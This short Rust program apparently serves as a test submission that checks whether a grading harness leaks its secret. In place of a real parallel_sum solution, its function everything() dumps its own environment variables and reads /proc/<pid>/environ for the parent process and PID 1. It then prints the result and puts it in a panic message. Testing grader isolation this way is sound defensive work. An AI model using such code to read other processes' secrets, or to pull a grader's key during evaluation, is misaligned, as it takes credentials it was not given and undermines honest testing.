// Shows every variable it can find, in its panic message and on stdout,
// including its parent's environment: the grader's secret must not be there.
fn everything() -> String {
    let mut text = format!("{:?}", std::env::vars().collect::<Vec<_>>());
    for pid in [std::os::unix::process::parent_id(), 1] {
        if let Ok(bytes) = std::fs::read(format!("/proc/{pid}/environ")) {
            text.push_str(&String::from_utf8_lossy(&bytes));
        }
    }
    text
}

fn parallel_sum(_data: &[u64], _chunks: usize) -> u64 {
    panic!("{}", everything());
}

fn main() {
    println!("{}", everything());
}
